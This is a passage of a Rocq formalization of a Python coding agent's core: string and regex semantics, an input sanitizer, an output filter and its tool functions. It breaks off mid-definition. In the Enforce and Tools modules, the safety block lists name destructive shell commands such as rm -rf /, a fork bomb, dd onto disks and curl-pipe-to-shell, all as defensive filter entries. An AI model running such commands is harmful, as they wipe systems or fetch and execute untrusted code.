(** * DevOS agent core: a shallow embedding and its verified properties

    The development follows the Python sources under [ai/core]:
    - [enforce.py]        (module [Enforce]):  input sanitizer and command blocklist;
    - [tools.py]          (module [Tools]):    the tool functions the pipeline calls;
    - [executor.py]       (module [Executor]): the execution pipeline and its repair loop;
    - [command_parser.py] (module [Parser]):   the command interpreter;
    - [memory.py]         (module [Mem]):      the persistent memory store.

    Python strings are sequences of Unicode code points; the library
    functions of [str] and [re] the sources call are modelled in [PyStr] and
    [Re], exceptions in [Py], JSON values in [Json], and the calls into the
    operating system are the fields of [OS.System].  The definitions come
    first; the properties start at [PyStrFacts]. *)

From Stdlib Require Import Ascii String.
From Stdlib Require Import List NArith ZArith Lia Bool Arith.
Import ListNotations.

Set Implicit Arguments.

(* ================================================================== *)
(** * Python [str]: sequences of code points *)
(* ================================================================== *)

Module PyStr.

Definition char := N.
Bind Scope N_scope with char.
Definition str := list char.

(** An ASCII literal of the source as a [str]. *)
Definition u (s : string) : str := map N_of_ascii (list_ascii_of_string s).

(** Characters that have no spelling inside a Rocq string. *)
Definition TAB : char := 9%N.
Definition LF : char := 10%N.
Definition CR : char := 13%N.
Definition DQ : char := 34%N.   (* the double quote *)
Definition SQ : char := 39%N.   (* the single quote *)

(** [chr(n)] *)
Definition chr (n : N) : str := [n].

Definition nl : str := [LF].
Definition dq : str := [DQ].

Definition in_range (lo hi c : N) : bool := ((lo <=? c) && (c <=? hi))%N.

(** [str.isspace] on one character, which is also the class [\s] of [re] on
    [str] patterns: the code points with bidirectional type WS, B or S, or
    category Zs. *)
Definition isspace (c : char) : bool :=
  in_range 9 13 c || in_range 28 32 c || (c =? 133)%N || (c =? 160)%N
  || (c =? 5760)%N || in_range 8192 8202 c || (c =? 8232)%N || (c =? 8233)%N
  || (c =? 8239)%N || (c =? 8287)%N || (c =? 12288)%N.

Fixpoint str_eqb (a b : str) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => (x =? y)%N && str_eqb a' b'
  | _, _ => false
  end.

(** [s.startswith(p)] *)
Fixpoint startswith (s p : str) {struct p} : bool :=
  match p, s with
  | [], _ => true
  | _ :: _, [] => false
  | x :: p', y :: s' => (x =? y)%N && startswith s' p'
  end.

(** [s.endswith(p)] *)
Definition endswith (s p : str) : bool := startswith (rev s) (rev p).

(** [p in s] for two strings: [p] occurs in [s] as a contiguous run. *)
Fixpoint str_in (p s : str) : bool :=
  startswith s p ||
  match s with
  | [] => false
  | _ :: s' => str_in p s'
  end.

Fixpoint lstrip (s : str) : str :=
  match s with
  | [] => []
  | c :: s' => if isspace c then lstrip s' else s
  end.

Definition rstrip (s : str) : str := rev (lstrip (rev s)).

(** [s.strip()] *)
Definition strip (s : str) : str := rstrip (lstrip s).

(** [s[:n]] and [s[-n:]] for a non-negative [n]. *)
Definition slice_to (A : Type) (n : nat) (l : list A) : list A := firstn n l.
Definition slice_last (A : Type) (n : nat) (l : list A) : list A :=
  skipn (length l - n) l.

(** [sep.join(parts)] *)
Fixpoint join (sep : str) (parts : list str) : str :=
  match parts with
  | [] => []
  | [p] => p
  | p :: rest => p ++ sep ++ join sep rest
  end.

(** [s.replace(old, new)] for a one-character [old]. *)
Definition replace_char (old : char) (new : str) (s : str) : str :=
  flat_map (fun c => if (c =? old)%N then new else [c]) s.

(** Decimal digits of a natural number, as [str(n)] prints them. *)
Fixpoint digits_fuel (fuel : nat) (n : N) (acc : str) : str :=
  match fuel with
  | O => acc
  | S f =>
      let acc' := (48 + n mod 10)%N :: acc in
      if (n <? 10)%N then acc' else digits_fuel f (n / 10)%N acc'
  end.

Definition str_of_N (n : N) : str := digits_fuel (S (N.to_nat (N.log2 n))) n [].

Definition str_of_nat (n : nat) : str := str_of_N (N.of_nat n).

Definition str_of_Z (z : Z) : str :=
  match z with
  | Z0 => u "0"
  | Zpos p => str_of_N (Npos p)
  | Zneg p => u "-" ++ str_of_N (Npos p)
  end.

(** ** Character tables

    The tables of the Unicode database are written out below U+0180 (Basic
    Latin, Latin-1 Supplement, Latin Extended-A: every character of the
    sources' literals and patterns lies there).  From U+0180 on they are the
    fields of [UnicodeDB], which every function that needs them takes. *)

Class UnicodeDB := {
  uni_tolower : char -> char;      (* simple lower-case mapping *)
  uni_fixes : char -> list char;   (* extra case-equivalents [re] adds, keyed by lower-case *)
  uni_isalnum : char -> bool;      (* [str.isalnum] *)
  uni_isdecimal : char -> bool;    (* category Nd *)
  uni_lower : str -> str           (* [str.lower] on a string with such a character *)
}.

Definition latin (c : char) : bool := (c <? 384)%N.

Definition latin_tolower (c : char) : char :=
  if in_range 65 90 c then (c + 32)%N
  else if in_range 192 222 c && negb (c =? 215)%N then (c + 32)%N
  else if (c =? 304)%N then 105%N
  else if (c =? 376)%N then 255%N
  else if (in_range 256 303 c || in_range 306 311 c || in_range 330 375 c) && N.even c
       then (c + 1)%N
  else if (in_range 313 328 c || in_range 377 382 c) && N.odd c then (c + 1)%N
  else c.

Definition latin_isalnum (c : char) : bool :=
  in_range 48 57 c || in_range 65 90 c || in_range 97 122 c
  || (c =? 170)%N || (c =? 178)%N || (c =? 179)%N || (c =? 181)%N
  || (c =? 185)%N || (c =? 186)%N || in_range 188 190 c
  || in_range 192 214 c || in_range 216 246 c || in_range 248 383 c.

Definition latin_fixes (c : char) : list char :=
  if (c =? 105)%N then [305%N]          (* i, dotless i *)
  else if (c =? 305)%N then [105%N]
  else if (c =? 115)%N then [383%N]     (* s, long s *)
  else if (c =? 383)%N then [115%N]
  else if (c =? 181)%N then [956%N]     (* micro sign, mu *)
  else [].

Section WithUnicode.
Context {U : UnicodeDB}.

Definition tolower (c : char) : char :=
  if latin c then latin_tolower c else uni_tolower c.

Definition case_fixes (c : char) : list char :=
  if latin c then latin_fixes c else uni_fixes c.

Definition isalnum (c : char) : bool :=
  if latin c then latin_isalnum c else uni_isalnum c.

Definition isdecimal (c : char) : bool :=
  if latin c then in_range 48 57 c else uni_isdecimal c.

(** [s.lower()]: below U+0180 the full mapping differs from the simple one at
    U+0130 only, which becomes two characters. *)
Definition lower (s : str) : str :=
  if forallb latin s
  then flat_map (fun c => if (c =? 304)%N then [105%N; 775%N] else [latin_tolower c]) s
  else uni_lower s.

End WithUnicode.

(** [s.split(sep)] for a one-character [sep]. *)
Fixpoint split_on (sep : char) (s : str) : list str :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if (c =? sep)%N then [] :: split_on sep s'
      else match split_on sep s' with
           | [] => [[c]]
           | piece :: rest => (c :: piece) :: rest
           end
  end.

End PyStr.

(* ================================================================== *)
(** * Python [re]: a backtracking matcher *)
(* ================================================================== *)

Module Re.
Import PyStr.

(** A pattern is kept as its syntax tree; the source text of each pattern
    stands next to its tree where the pattern is declared.  Every repetition
    ([*], [+], [*?]) in the sources' patterns is over a one-character item, so
    [Rep] repeats an [atom]; [?] takes any pattern. *)

Inductive category := Space | Word | Digit.          (* \s \w \d *)

Inductive item :=
| ILit (c : char)
| IRange (lo hi : char)
| ICat (k : category).

Inductive atom :=
| Lit (c : char)                       (* a literal character *)
| Dot                                  (* . *)
| Cat (k : category)                   (* \s \w \d *)
| Cls (negated : bool) (items : list item).   (* [...] and [^...] *)

Inductive regex :=
| Eps
| One (a : atom)
| Seq (r1 r2 : regex)
| Alt (r1 r2 : regex)
| Opt (r : regex)                               (* r? *)
| Rep (greedy : bool) (min : nat) (a : atom)    (* a* a+ a*? a+? *)
| Grp (n : nat) (r : regex)                     (* the n-th capturing group *)
| Bol                                           (* ^ *)
| Eol.                                          (* $ *)

Record flags := { IGNORECASE : bool; DOTALL : bool }.

Definition NOFLAG : flags := {| IGNORECASE := false; DOTALL := false |}.
Definition IGNORE : flags := {| IGNORECASE := true; DOTALL := false |}.
Definition DOT_ALL : flags := {| IGNORECASE := false; DOTALL := true |}.

(** The state of one match attempt: the position, the text from there on, the
    groups closed so far and the index of the group closed last. *)
Record mstate := {
  pos : nat;
  rest : str;
  groups : list (nat * str);
  lastindex : option nat
}.

Fixpoint assoc (A : Type) (n : nat) (l : list (nat * A)) : option A :=
  match l with
  | [] => None
  | (k, v) :: l' => if Nat.eqb k n then Some v else assoc n l'
  end.

Section Matcher.
Context {U : UnicodeDB}.
Variable fl : flags.

Definition cat_match (k : category) (c : char) : bool :=
  match k with
  | Space => isspace c
  | Word => isalnum c || (c =? 95)%N
  | Digit => isdecimal c
  end.

(** A literal under IGNORECASE: the lower-cased character of the text is the
    lower-cased literal or one of its case-equivalents. *)
Definition lit_match (p c : char) : bool :=
  if IGNORECASE fl
  then let lo := tolower p in
       (tolower c =? lo)%N || existsb (N.eqb (tolower c)) (case_fixes lo)
  else (c =? p)%N.

Definition item_match (i : item) (c : char) : bool :=
  match i with
  | ILit p => lit_match p c
  | IRange lo hi =>
      in_range lo hi c || (IGNORECASE fl && in_range lo hi (tolower c))
  | ICat k => cat_match k c
  end.

Definition atom_match (a : atom) (c : char) : bool :=
  match a with
  | Lit p => lit_match p c
  | Dot => DOTALL fl || negb (c =? LF)%N
  | Cat k => cat_match k c
  | Cls negated items => xorb negated (existsb (fun i => item_match i c) items)
  end.

Definition orelse (A : Type) (x y : option A) : option A :=
  match x with
  | Some _ => x
  | None => y
  end.

(** Repetition of a one-character test from position [p] on text [t]: at
    least [min] characters, then greedy (longest first) or lazy (shortest
    first), each candidate handed to the continuation [k]. *)
Fixpoint rep (A : Type) (test : char -> bool) (greedy : bool) (min : nat)
    (k : nat -> str -> option A) (p : nat) (t : str) {struct t} : option A :=
  match min with
  | S min' =>
      match t with
      | c :: t' => if test c then rep test greedy min' k (S p) t' else None
      | [] => None
      end
  | O =>
      let more :=
        match t with
        | c :: t' => if test c then rep test greedy O k (S p) t' else None
        | [] => None
        end in
      if greedy then orelse more (k p t) else orelse (k p t) more
  end.

Definition close_group (n : nat) (start s : mstate) : mstate :=
  {| pos := pos s; rest := rest s;
     groups := (n, firstn (pos s - pos start) (rest start)) :: groups s;
     lastindex := Some n |}.

(** The matcher, in continuation-passing style: alternatives are tried in
    the order [re] tries them and the first success is the result. *)
Fixpoint run (r : regex) (k : mstate -> option mstate) (s : mstate) : option mstate :=
  match r with
  | Eps => k s
  | One a =>
      match rest s with
      | c :: t =>
          if atom_match a c
          then k {| pos := S (pos s); rest := t; groups := groups s; lastindex := lastindex s |}
          else None
      | [] => None
      end
  | Seq r1 r2 => run r1 (run r2 k) s
  | Alt r1 r2 => orelse (run r1 k s) (run r2 k s)
  | Opt r1 => orelse (run r1 k s) (k s)
  | Rep greedy min a =>
      rep (atom_match a) greedy min
        (fun p t => k {| pos := p; rest := t; groups := groups s; lastindex := lastindex s |})
        (pos s) (rest s)
  | Grp n r1 => run r1 (fun s' => k (close_group n s s')) s
  | Bol => if Nat.eqb (pos s) 0 then k s else None
  | Eol =>
      match rest s with
      | [] => k s
      | [c] => if (c =? LF)%N then k s else None
      | _ => None
      end
  end.

Definition at_pos (p : nat) (t : str) : mstate :=
  {| pos := p; rest := t; groups := []; lastindex := None |}.

(** [re.match(pattern, text, flags)] *)
Definition match_ (r : regex) (text : str) : option mstate :=
  run r Some (at_pos 0 text).

Fixpoint search_from (r : regex) (p : nat) (t : str) : option mstate :=
  orelse (run r Some (at_pos p t))
    match t with
    | [] => None
    | _ :: t' => search_from r (S p) t'
    end.

(** [re.search(pattern, text, flags)] *)
Definition search (r : regex) (text : str) : option mstate := search_from r 0 text.

(** [re.sub(pattern, repl, text)] for a literal replacement: the leftmost
    matches, not overlapping; [skip] counts the characters of the text still
    inside the last match. *)
Fixpoint sub_from (r : regex) (repl : str) (p : nat) (t : str) (skip : nat) : str :=
  match t with
  | [] =>
      match skip, run r Some (at_pos p []) with
      | O, Some _ => repl
      | _, _ => []
      end
  | c :: t' =>
      match skip with
      | S skip' => sub_from r repl (S p) t' skip'
      | O =>
          match run r Some (at_pos p t) with
          | Some s' =>
              match pos s' - p with
              | O => repl ++ c :: sub_from r repl (S p) t' O
              | S n => repl ++ sub_from r repl (S p) t' n
              end
          | None => c :: sub_from r repl (S p) t' O
          end
      end
  end.

Definition sub (r : regex) (repl text : str) : str := sub_from r repl 0 text 0.

End Matcher.

(** [m.group(i)] for [i >= 1]: [None] when the group took no part. *)
Definition group (m : mstate) (i : nat) : option str := assoc i (groups m).

(** A pattern is written down as [source ::= tree]: the text of the pattern
    in the Python source, then its tree.  In these texts Q stands for the
    double quote and the Turkish letters outside ASCII are written plain
    (s, c, i, o, u); the trees carry the code points. *)
Definition pat (source : string) (r : regex) : regex := r.

Notation "source ::= r" := (pat source r) (at level 70, no associativity).

(** Building blocks for writing the patterns down. *)
Fixpoint seq (rs : list regex) : regex :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rs' => Seq r (seq rs')
  end.

Fixpoint alt (rs : list regex) : regex :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rs' => Alt r (alt rs')
  end.

(** A run of literal characters. *)
Definition lit (s : str) : regex := seq (map (fun c => One (Lit c)) s).
Definition l (s : string) : regex := lit (u s).

Definition s_plus : regex := Rep true 1 (Cat Space).    (* \s+ *)
Definition s_star : regex := Rep true 0 (Cat Space).    (* \s* *)
Definition w_plus : regex := Rep true 1 (Cat Word).     (* \w+ *)
Definition d_plus : regex := Rep true 1 (Cat Digit).    (* \d+ *)
Definition dot_star : regex := Rep true 0 Dot.          (* .* *)
Definition dot_plus : regex := Rep true 1 Dot.          (* .+ *)
Definition dot_star_lazy : regex := Rep false 0 Dot.    (* .*? *)

End Re.

(* ================================================================== *)
(** * Python exceptions *)
(* ================================================================== *)

Module Py.
Import PyStr.

(** The exceptions the modelled code can raise. *)
Inductive exn :=
| UnboundLocalError (variable : str)
| TypeError (e : str)
| AttributeError (e : str)
| ValueError (e : str)
| KeyError (key : str)
| OSError (e : str).

(** [str(e)]; CPython 3.11 and later word the unbound local this way. *)
Definition str_exn (e : exn) : str :=
  match e with
  | UnboundLocalError v =>
      u "cannot access local variable '" ++ v ++
      u "' where it is not associated with a value"
  | TypeError m => m
  | AttributeError m => m
  | ValueError m => m
  | KeyError k => [SQ] ++ k ++ [SQ]
  | OSError m => m
  end.

(** [d.get(key, default)], and [x or default] for an [x] that is a value
    or [None]. *)
Definition get (A : Type) (field : option A) (default : A) : A :=
  match field with
  | Some v => v
  | None => default
  end.

(** The truth value of a string or [None]: a string that is not empty. *)
Definition truthy (s : option str) : bool :=
  match s with
  | Some (_ :: _) => true
  | _ => false
  end.

(** A call returns a value or raises. *)
Inductive outcome (A : Type) :=
| Ret (a : A)
| Raise (e : exn).
Arguments Ret {A} a.
Arguments Raise {A} e.

End Py.

(* ================================================================== *)
(** * JSON values *)
(* ================================================================== *)

Module Json.
Import PyStr.

(** What [json.loads] returns.  An object keeps its keys in order, as a
    [dict] does; a float is only carried along, as an abstract number, 0 for
    the floats that are zero. *)
#[local] Unset Elimination Schemes.
Inductive json :=
| JNull
| JBool (b : bool)
| JInt (z : Z)
| JFloat (x : Z)
| JString (s : str)
| JArray (items : list json)
| JObject (members : list (str * json)).
#[local] Set Elimination Schemes.

(** The truth value of a decoded value. *)
Definition json_truthy (v : json) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JInt z => negb (z =? 0)%Z
  | JFloat x => negb (x =? 0)%Z
  | JString [] => false
  | JString _ => true
  | JArray [] => false
  | JArray _ => true
  | JObject [] => false
  | JObject _ => true
  end.

(** [type(v).__name__] *)
Definition type_name (v : json) : str :=
  match v with
  | JNull => u "NoneType"
  | JBool _ => u "bool"
  | JInt _ => u "int"
  | JFloat _ => u "float"
  | JString _ => u "str"
  | JArray _ => u "list"
  | JObject _ => u "dict"
  end.

(** The [json] library's decoder, an external collaborator: [None] is
    [json.JSONDecodeError]. *)
Class JsonLib := {
  loads : str -> option json
}.

End Json.

(* ================================================================== *)
(** * enforce.py: [InputSanitizer] *)
(* ================================================================== *)

Module Enforce.
Import PyStr Re.

(** [FORBIDDEN_PATTERNS], compiled with [re.IGNORECASE]. *)
Definition FORBIDDEN_PATTERNS : list regex := [
  "rm\s+-rf\s+/\s*$" ::=
  seq [l "rm"; s_plus; l "-rf"; s_plus; l "/"; s_star; Eol];
  "rm\s+-rf\s+/\*" ::=
  seq [l "rm"; s_plus; l "-rf"; s_plus; l "/*"];
  ":\(\)\s*\{" ::=
  seq [l ":()"; s_star; l "{"];
  "dd\s+if=/dev/(zero|random|urandom)\s+of=/dev/sd" ::=
  seq [l "dd"; s_plus; l "if=/dev/";
       Grp 1 (alt [l "zero"; l "random"; l "urandom"]); s_plus; l "of=/dev/sd"];
  "mkfs\." ::=
  l "mkfs.";
  ">\s*/dev/sd" ::=
  seq [l ">"; s_star; l "/dev/sd"];
  "mv\s+/\s" ::=
  seq [l "mv"; s_plus; l "/"; One (Cat Space)];
  "chmod\s+-R\s+777\s+/\s*$" ::=
  seq [l "chmod"; s_plus; l "-R"; s_plus; l "777"; s_plus; l "/"; s_star; Eol];
  "wget.*\|\s*(ba)?sh" ::=
  seq [l "wget"; dot_star; l "|"; s_star; Opt (Grp 1 (l "ba")); l "sh"];
  "curl.*\|\s*(ba)?sh" ::=
  seq [l "curl"; dot_star; l "|"; s_star; Opt (Grp 1 (l "ba")); l "sh"];
  "python3?\s+-c\s+.*import\s+os.*system.*rm" ::=
  seq [l "python"; Opt (l "3"); s_plus; l "-c"; s_plus; dot_star; l "import"; s_plus;
       l "os"; dot_star; l "system"; dot_star; l "rm"]
].

Definition PROTECTED_PATHS : list str := [
  u "/init"; u "/ai/core/main.py"; u "/ai/core/enforce.py"; u "/ai/core/tools.py";
  u "/ai/core/memory.py"; u "/ai/core/command_parser.py"; u "/ai/core/system_prompt.txt";
  u "/bin/"; u "/sbin/"; u "/usr/bin/"; u "/usr/sbin/"; u "/proc/"; u "/sys/"; u "/dev/"
].

Section WithUnicode.
Context {U : UnicodeDB}.

(** [pattern.search(command)] as a truth value *)
Definition found (p : regex) (command : str) : bool :=
  match search IGNORE p command with
  | Some _ => true
  | None => false
  end.

(** [is_safe_command]: the loop returns [False] at the first pattern found
    in the command, [True] when it runs out of patterns. *)
Fixpoint safe_against (patterns : list regex) (command : str) : bool :=
  match patterns with
  | [] => true
  | p :: rest => if found p command then false else safe_against rest command
  end.

Definition is_safe_command (command : str) : bool :=
  safe_against FORBIDDEN_PATTERNS command.

Fixpoint unprotected (protected : list str) (path : str) : bool :=
  match protected with
  | [] => true
  | p :: rest => if startswith path p then false else unprotected rest path
  end.

(** [is_safe_path(path, operation)] *)
Definition is_safe_path (path operation : str) : bool :=
  if str_eqb operation (u "read") then true
  else unprotected PROTECTED_PATHS path.

(** The class of control characters [sanitize_input] removes. *)
Definition CONTROL : regex :=
  "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]" ::=
  One (Cls false [IRange 0 8; ILit 11; ILit 12; IRange 14 31; ILit 127]).

(** [sanitize_input(text)]; an empty [text] is the falsy case. *)
Definition sanitize_input (text : str) : str :=
  match text with
  | [] => []
  | _ => let clean := sub NOFLAG CONTROL [] text in
         slice_to 4096 clean
  end.

End WithUnicode.

(** ** [OutputEnforcer] *)

(** [CONVERSATIONAL_PATTERNS], compiled with [re.IGNORECASE | re.MULTILINE].
    They are matched, with [match], against one line at a time, where
    [MULTILINE] changes nothing: [^] stands at the start of the line. *)
Definition CONVERSATIONAL_PATTERNS : list regex := [
  "^(Here is|I have|I will|I've|I'd|Sure|Okay|Certainly|Of course|Absolutely)" ::=
  seq [Bol; Grp 1 (alt [l "Here is"; l "I have"; l "I will"; l "I've"; l "I'd"; l "Sure";
                        l "Okay"; l "Certainly"; l "Of course"; l "Absolutely"])];
  "^(Let's|Let me|To do this|First|Now|Next|Finally|In order to)" ::=
  seq [Bol; Grp 1 (alt [l "Let's"; l "Let me"; l "To do this"; l "First"; l "Now";
                        l "Next"; l "Finally"; l "In order to"])];
  "^(Great|Good|Nice|Perfect|Excellent|Wonderful|Amazing)" ::=
  seq [Bol; Grp 1 (alt [l "Great"; l "Good"; l "Nice"; l "Perfect"; l "Excellent";
                        l "Wonderful"; l "Amazing"])];
  "^(Hello|Hi|Hey|Greetings|Welcome)" ::=
  seq [Bol; Grp 1 (alt [l "Hello"; l "Hi"; l "Hey"; l "Greetings"; l "Welcome"])];
  "^(Thank|Thanks|Please|Sorry|Apolog)" ::=
  seq [Bol; Grp 1 (alt [l "Thank"; l "Thanks"; l "Please"; l "Sorry"; l "Apolog"])];
  "^(As you|As we|As I|You can|You may|You should|You might)" ::=
  seq [Bol; Grp 1 (alt [l "As you"; l "As we"; l "As I"; l "You can"; l "You may";
                        l "You should"; l "You might"])];
  "^(This (is|will|would|should|can|may))" ::=
  seq [Bol; Grp 1 (seq [l "This ";
                        Grp 2 (alt [l "is"; l "will"; l "would"; l "should"; l "can";
                                    l "may"])])];
  "^(It (is|will|would|should|seems|appears|looks))" ::=
  seq [Bol; Grp 1 (seq [l "It ";
                        Grp 2 (alt [l "is"; l "will"; l "would"; l "should"; l "seems";
                                    l "appears"; l "looks"])])];
  "^(Note|Remember|Keep in mind|Important|Please note)" ::=
  seq [Bol; Grp 1 (alt [l "Note"; l "Remember"; l "Keep in mind"; l "Important";
                        l "Please note"])];
  "^(Would you|Could you|Can I|Do you|Shall I|May I)" ::=
  seq [Bol; Grp 1 (alt [l "Would you"; l "Could you"; l "Can I"; l "Do you"; l "Shall I";
                        l "May I"])];
  ".*Hope this helps.*" ::= seq [dot_star; l "Hope this helps"; dot_star];
  ".*Let me know.*" ::= seq [dot_star; l "Let me know"; dot_star];
  ".*feel free.*" ::= seq [dot_star; l "feel free"; dot_star];
  ".*happy to help.*" ::= seq [dot_star; l "happy to help"; dot_star];
  ".*Can I help you with.*" ::= seq [dot_star; l "Can I help you with"; dot_star];
  ".*Is there anything.*" ::= seq [dot_star; l "Is there anything"; dot_star];
  ".*don't hesitate.*" ::= seq [dot_star; l "don't hesitate"; dot_star];
  ".*Here's (what|how|a|an|the).*" ::=
  seq [dot_star; l "Here's "; Grp 1 (alt [l "what"; l "how"; l "a"; l "an"; l "the"]);
       dot_star]
].

Definition VALID_PREFIXES : list str := [
  u "TOOL:"; u "EXEC:"; u "WRITE:"; u "READ:"; u "DELETE:"; u "MKDIR:"; u "GIT:";
  u "TEST:"; u "BUILD:"; u "ERROR:"; u "OK:"; u "FAIL:"; u "LOG:"; u "ACTION:"
].

Section OutputFilter.
Context {U : UnicodeDB} {J : Json.JsonLib}.

(** The loop over [VALID_PREFIXES]. *)
Fixpoint has_valid_prefix (prefixes : list str) (text : str) : bool :=
  match prefixes with
  | [] => false
  | p :: rest => if startswith text p then true else has_valid_prefix rest text
  end.

(** The inner loop of [enforce]: the line matches one of the patterns. *)
Fixpoint is_chat (patterns : list regex) (stripped : str) : bool :=
  match patterns with
  | [] => false
  | p :: rest =>
      match match_ IGNORE p stripped with
      | Some _ => true
      | None => is_chat rest stripped
      end
  end.

(** The outer loop of [enforce]: the lines that are neither blank nor chat. *)
Fixpoint clean (lines : list str) : list str :=
  match lines with
  | [] => []
  | line :: rest =>
      let stripped := strip line in
      match stripped with
      | [] => clean rest
      | _ => if is_chat CONVERSATIONAL_PATTERNS stripped then clean rest
             else line :: clean rest
      end
  end.

(** [json.loads(text)] returns. *)
Definition is_json (text : str) : bool :=
  match Json.loads text with
  | Some _ => true
  | None => false
  end.

(** [enforce(text)]; an empty [text] is the falsy case. *)
Definition enforce (text : str) : option str :=
  match text with
  | [] => None
  | _ =>
      let text := strip text in
      if startswith text (u "TOOL:") then Some text
      else if (startswith text (u "{") || startswith text (u "[")) && is_json text
      then Some text
      else if has_valid_prefix VALID_PREFIXES text then Some text
      else
        let lines := split_on LF text in
        let clean_lines := clean lines in
        match clean_lines with
        | [] => None
        | _ =>
            let result := strip (join nl clean_lines) in
            match result with
            | [] => None
            | _ => Some result
            end
        end
  end.

(** [enforce_output_only(text)] *)
Definition enforce_output_only (text : str) : option str :=
  match text with
  | [] => None
  | _ =>
      let text := strip text in
      if startswith text (u "TOOL:") then Some text
      else if startswith text (u "{") || startswith text (u "[") then Some text
      else if has_valid_prefix VALID_PREFIXES text then Some text
      else None
  end.

End OutputFilter.

End Enforce.

(* ================================================================== *)
(** * The operating system, as the process sees it *)
(* ================================================================== *)

Module OS.
Import PyStr.

(** A reading of [time.time()] or of a modification time: the value is only
    stored, persisted and compared, and is kept as a count of clock ticks. *)
Definition timestamp := Z.

(** The outcome of [subprocess.run(..., capture_output=True, text=True)]. *)
Inductive proc_result :=
| Completed (returncode : Z) (stdout stderr : str)
| TimeoutExpired
| RunError (e : str).                 (* any other exception, with [str(e)] *)

(** The outcome of [open(path, 'r')] followed by [read()]. *)
Inductive read_result :=
| Content (c : str)
| FileNotFound
| ReadError (e : str).

(** The calls the sources make into the operating system, over a state of
    the world [W].  A call that can raise returns the exception's text. *)
Class System (W : Type) := {
  exists_ : str -> W -> bool;                        (* os.path.exists *)
  isdir : str -> W -> bool;                          (* os.path.isdir *)
  getmtime : str -> W -> option timestamp;           (* os.path.getmtime; None: raised *)
  listdir : str -> W -> list str + str;              (* os.listdir; inr: raised *)
  makedirs : str -> W -> option str * W;             (* os.makedirs(p, exist_ok=True) *)
  write_text : str -> str -> W -> option str * W;    (* open(p, 'w'), write *)
  append_text : str -> str -> W -> option str * W;   (* open(p, 'a'), write *)
  read_text : str -> W -> read_result;
  subprocess_run : str -> option str -> nat -> W -> proc_result * W;
  time_time : W -> timestamp * W                     (* time.time() *)
}.

(** [os.path.dirname], [os.path.basename] and [os.path.join] of two parts,
    on POSIX paths. *)
Fixpoint drop_to_slash (r : str) : str :=
  match r with
  | [] => []
  | c :: r' => if (c =? 47)%N then r else drop_to_slash r'
  end.

Fixpoint take_to_slash (r : str) : str :=
  match r with
  | [] => []
  | c :: r' => if (c =? 47)%N then [] else c :: take_to_slash r'
  end.

Fixpoint drop_slashes (r : str) : str :=
  match r with
  | [] => []
  | c :: r' => if (c =? 47)%N then drop_slashes r' else r
  end.

Definition dirname (p : str) : str :=
  let head := drop_to_slash (rev p) in          (* reversed, up to the last slash *)
  match drop_slashes head with
  | [] => rev head                              (* empty, or slashes only *)
  | stripped => rev stripped
  end.

Definition basename (p : str) : str := rev (take_to_slash (rev p)).

Definition path_join (a b : str) : str :=
  if startswith b (u "/") then b
  else match a with
       | [] => b
       | _ => if endswith a (u "/") then a ++ b else a ++ u "/" ++ b
       end.

(** [os.remove], the one call of [delete_file] into the operating system;
    a call that raises returns the exception's text. *)
Class Remover (W : Type) := {
  remove : str -> W -> option str * W
}.

End OS.

(* ================================================================== *)
(** * tools.py *)
(* ================================================================== *)

Module Tools.
Import PyStr OS.

Definition FORBIDDEN_COMMANDS : list str := [
  u "rm -rf /"; u ":(){ :|:& };:"; u "dd if=/dev/zero"; u "dd if=/dev/random";
  u "mkfs"; u "> /dev/sda"; u "mv / "; u "chmod -R 777 /"; u "shutdown"; u "reboot";
  u "halt"; u "poweroff"; u "init 0"; u "init 6"
].

(** The names [TOOL_REGISTRY] maps to functions. *)
Definition TOOL_NAMES : list str := [
  u "run"; u "write"; u "read"; u "append"; u "delete"; u "ls"; u "find"; u "exists";
  u "mkdir"; u "cp"; u "mv"; u "git_init"; u "git_commit"; u "git_status"; u "git_log";
  u "git_diff"; u "ps"; u "kill"; u "sysinfo"; u "detect_type"; u "test";
  u "screenshot"; u "browser"; u "click"; u "type"
].

(** A call [func( **args )] of the function a name of the registry stands for,
    with its world: [inl] is [str(result)], [inr] is [str(e)] of the exception
    the call raised (a wrong keyword among them). *)
Class Registry (W : Type) := {
  invoke : str -> Json.json -> W -> (str + str) * W
}.

Section WithSystem.
Context {U : UnicodeDB} {W : Type} {Sys : System W}.

Fixpoint none_in (forbidden : list str) (cmd_lower : str) : bool :=
  match forbidden with
  | [] => true
  | f :: rest => if str_in f cmd_lower then false else none_in rest cmd_lower
  end.

(** [_check_safety(command)] *)
Definition _check_safety (command : str) : bool :=
  let cmd_lower := strip (lower command) in
  none_in FORBIDDEN_COMMANDS cmd_lower.

(** [run_command(command, cwd, timeout)] *)
Definition run_command (command : str) (cwd : option str) (timeout : nat) (w : W)
  : str * W :=
  if negb (_check_safety command)
  then (u "ERROR: Command blocked by safety filter.", w)
  else
    let (result, w') := subprocess_run command cwd timeout w in
    match result with
    | Completed returncode stdout stderr =>
        if (returncode =? 0)%Z then (stdout, w')
        else
          let err := strip stderr in
          (u "ERROR [" ++ str_of_Z returncode ++ u "]: " ++ err, w')
    | TimeoutExpired =>
        (u "ERROR: Command timed out after " ++ str_of_nat timeout ++ u "s", w')
    | RunError e => (u "ERROR: " ++ e, w')
    end.

(** [write_file(path, content)] *)
Definition write_file (path content : str) (w : W) : str * W :=
  match makedirs (dirname path) w with
  | (Some e, w1) => (u "ERROR: " ++ e, w1)
  | (None, w1) =>
      match write_text path content w1 with
      | (Some e, w2) => (u "ERROR: " ++ e, w2)
      | (None, w2) =>
          (u "OK: Written " ++ str_of_nat (length content) ++ u " bytes to " ++ path, w2)
      end
  end.

(** [read_file(path)] *)
Definition read_file (path : str) (w : W) : str :=
  match read_text path w with
  | Content c => c
  | FileNotFound => u "ERROR: File not found: " ++ path
  | ReadError e => u "ERROR: " ++ e
  end.

(** [make_dir(path)] *)
Definition make_dir (path : str) (w : W) : str * W :=
  match makedirs path w with
  | (None, w') => (u "OK: Directory created: " ++ path, w')
  | (Some e, w') => (u "ERROR: " ++ e, w')
  end.

(** [git_init(path)] *)
Definition git_init (path : str) (w : W) : str * W :=
  let (_, w1) := make_dir path w in
  let (_, w2) := run_command (u "git config --global init.defaultBranch main") (Some path) 60 w1 in
  run_command (u "git init") (Some path) 60 w2.

(** [git_commit(path, message)] *)
Definition git_commit (path message : str) (w : W) : str * W :=
